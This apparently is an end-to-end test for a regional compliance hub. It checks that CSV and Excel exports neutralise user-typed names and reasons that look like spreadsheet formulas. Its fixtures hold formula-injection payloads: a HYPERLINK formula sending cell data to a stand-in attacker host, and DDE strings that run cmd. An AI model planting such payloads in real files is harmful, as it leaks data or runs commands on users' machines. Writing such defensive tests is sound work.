import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { createLogger, queryRows, sql } from '@hub/common';
import { gql, gqlData, tokenFor } from '@hub/common/testing';
import { startWorker } from '@hub/compliance/worker';
import { registerOrganization } from './support/fixtures.js';
import { startTestHub, type TestHub } from './support/hub.js';
import { operation } from './support/operations.js';

/**
 * Names and reasons are typed by people; in an export they must stay text a spreadsheet shows,
 * never a formula it runs (docs/SECURITY.md, "Spreadsheet exports"). Registered Monday
 * 2 November 2026, evaluated for 2026-W48 on 1 December, as tests/reports.e2e.test.ts does on the
 * demo region.
 */

let now = new Date('2026-11-02T00:05:00Z');
let hub: TestHub;
let admin: string;
let analyst: string;

const EVIL = '=HYPERLINK("https://evil.example/?"&C2;"x")';
const SUB = "-2+3+cmd|' /C calc'!A0";
const PLAIN = 'Министерство формул Хабаровского края';
const AT_REASON = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS_REASON = '+7 дней реконструкции сайта';
const FORMULA_START = /^[=+\-@\t\r]/;

const head = { fullName: 'Соколова Анна Игоревна', position: 'Руководитель', email: 'formulas-head@khv-region.test' };

beforeAll(async () => {
  hub = await startTestHub({ seed: 'none', clock: () => now });
  [admin, analyst] = await Promise.all([tokenFor('ADMIN'), tokenFor('ANALYST')]);
  const evil = await registerOrganization(hub.gatewayUrl, admin, { name: EVIL, kind: 'EXECUTIVE_BODY', head });
  const sub = await registerOrganization(hub.gatewayUrl, admin, { name: SUB, kind: 'SUBORDINATE', parentId: evil, head });
  const plain = await registerOrganization(hub.gatewayUrl, admin, { name: PLAIN, kind: 'EXECUTIVE_BODY', head });
  // Monday's summary goes to the ЦУР: without one there is no workbook to look at.
  await registerOrganization(hub.gatewayUrl, admin, {
    name: 'Центр управления регионом (формулы)',
    kind: 'REGIONAL_MANAGEMENT_CENTER',
    head,
    contactEmail: 'formulas-cur@khv-region.test',
  });

  now = new Date('2026-12-01T00:05:00Z');
  const run = await gql<{ runComplianceCheck: { evaluated: number } }>(
    hub.gatewayUrl,
    operation('RunComplianceCheck'),
    { rule: 'WEEKLY_PLACEMENTS', period: '2026-W48' },
    admin,
  );
  expect(run.errors).toBeUndefined();
  expect(run.data!.runComplianceCheck.evaluated).toBe(3);
  for (const [organizationId, reason] of [
    [sub, AT_REASON],
    [plain, PLUS_REASON],
  ] as const) {
    await gqlData(
      hub.gatewayUrl,
      operation('GrantExemption'),
      { input: { organizationId, rule: 'WEEKLY_PLACEMENTS', period: '2026-W48', reason } },
      admin,
    );
  }
}, 120_000);
afterAll(() => hub?.stop());

const download = (file: string) =>
  fetch(`${hub.gatewayUrl.replace(/\/graphql$/, '')}/reports/${file}?period=2026-W48&rule=WEEKLY_PLACEMENTS`, {
    headers: { authorization: `Bearer ${analyst}` },
  });

describe('an export with user-typed text that looks like a formula', () => {
  it('CSV: every such cell starts with a single quote, numbers stay bare', async () => {
    const res = await download('compliance.csv');
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(3);
    const live = rows.flatMap((r) => Object.values(r)).filter((cell) => FORMULA_START.test(cell));
    expect(live).toEqual([]);
    const byName = new Map(rows.map((r) => [r['Организация']!, r]));
    expect(byName.get(`'${EVIL}`)).toMatchObject({ Статус: 'не выполнено', Норма: '3', Факт: '0', 'Основание освобождения': '' });
    expect(byName.get(`'${SUB}`)).toMatchObject({ 'Вышестоящий орган': `'${EVIL}`, 'Основание освобождения': `'${AT_REASON}` });
    expect(byName.get(PLAIN)).toMatchObject({ 'Основание освобождения': `'${PLUS_REASON}` });
  });

  it('XLSX: every such cell starts with a single quote, numbers stay numbers', async () => {
    const res = await download('compliance.xlsx');
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const sheet = workbook.worksheets[0]!;
    const rows = sheet
      .getSheetValues()
      .slice(2)
      .map((row) => (row as unknown[]).slice(1));
    expect(rows).toHaveLength(3);
    const live = rows.flat().filter((cell) => typeof cell !== 'number' && FORMULA_START.test(String(cell ?? '')));
    expect(live).toEqual([]);
    const byName = new Map(rows.map((r) => [r[0], r]));
    // 0 name, 2 parent, 7 required, 8 actual, 10 consecutive misses, 11 exemption reason.
    expect(byName.get(`'${EVIL}`)).toMatchObject({ 7: 3, 8: 0, 10: 1 });
    expect(byName.get(`'${SUB}`)).toMatchObject({ 2: `'${EVIL}`, 11: `'${AT_REASON}` });
    expect(byName.get(PLAIN)).toMatchObject({ 11: `'${PLUS_REASON}` });
    // No cell is a formula, and no text took a number's place or the other way round.
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it("Monday's summary workbook: organization names start with a single quote, numbers stay numbers", async () => {
    const worker = await startWorker({
      databaseUrl: hub.databaseUrl,
      timezone: 'Asia/Vladivostok',
      logger: createLogger('formulas-test', 'silent'),
      clock: () => now,
      workerName: 'formulas-worker',
      runOnSchedule: false, // the test fires jobs itself, with its own clock
      publicUrl: 'https://hub.khv-region.test',
      smtpUrl: hub.smtpUrl,
      mailFrom: 'hub@khv-region.test',
    });
    try {
      await worker.scheduler.runNow('compliance.weekly-summary');
    } finally {
      await worker.stop();
    }
    const [letter] = await queryRows<{ attachments: { filename: string; contentBase64: string }[] }>(
      hub.subgraphs.compliance.orm.em.fork(),
      sql`select attachments from compliance.notification where dedup_key = 'summary:2026-W48'`,
    );
    const attachment = letter!.attachments.find((a) => a.filename === 'regional-content-2026-W48.xlsx')!;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(attachment.contentBase64, 'base64') as never);
    const sheet = workbook.getWorksheet('Итоги недели')!;
    const rows = sheet
      .getSheetValues()
      .slice(2)
      .map((row) => (row as unknown[]).slice(1));
    const live = rows.flat().filter((cell) => typeof cell !== 'number' && FORMULA_START.test(String(cell ?? '')));
    expect(live).toEqual([]);
    const byName = new Map(rows.filter((r) => r[2] === 'Размещение регионального контента (п. 3.1)').map((r) => [r[0], r]));
    // 0 name, 5 required, 6 actual, 8 consecutive misses.
    expect(byName.get(`'${EVIL}`)).toMatchObject({ 5: 3, 6: 0 });
    expect(byName.get(`'${SUB}`)).toMatchObject({ 5: 3, 6: 0 });
    expect(typeof byName.get(PLAIN)?.[8]).toBe('number');
  });
});
